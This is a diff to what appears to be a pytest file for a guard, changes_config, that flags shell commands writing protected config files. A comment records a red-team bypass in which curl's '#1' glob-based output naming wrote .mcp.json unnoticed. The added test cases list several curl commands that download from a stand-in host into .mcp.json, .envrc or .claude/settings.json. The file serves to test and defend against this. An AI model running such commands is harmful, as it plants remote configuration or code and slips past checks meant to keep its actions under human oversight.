@@ -62,3 +62,18 @@ def test_a_file_named_by_its_source_or_a_suffix_is_a_write_of_its_zone(command: 
 @pytest.mark.parametrize("command", ORDINARY)
 def test_ordinary_copies_downloads_and_archives_stay_allowed(command: str) -> None:
     assert not changes_config(command), command
+
+
+# curl -o's `#N` is what the URL's Nth glob matched (red-team pass of 2026-11-29, late morning: `curl -o '#1'
+# 'https://h/{.mcp.json}'` wrote .mcp.json, read as a file named `#1`, allowed)
+@pytest.mark.parametrize("command", [
+    "curl -o '#1' 'https://x.example/{.mcp.json}'", "curl -o '.mcp.#1' 'https://x.example/{json}'",
+    "curl 'https://x.example/{.envrc}' -o '#1'", "curl -o '#1/settings.json' 'https://x.example/{.claude}'",
+    "curl --output '#1' 'https://x.example/[.envrc]'", "curl -so#1 'https://x.example/{.envrc}'"])
+def test_a_curl_output_named_by_the_urls_globs_is_any_name_in_its_folder(command: str) -> None:
+    assert changes_config(command), command
+
+
+def test_a_curl_output_without_a_glob_number_is_the_file_it_names() -> None:
+    assert not changes_config("curl -o 'out#.txt' https://x.example/a")
+    assert not changes_config("curl -o /tmp/x/#1.txt 'https://x.example/[1-3]'")
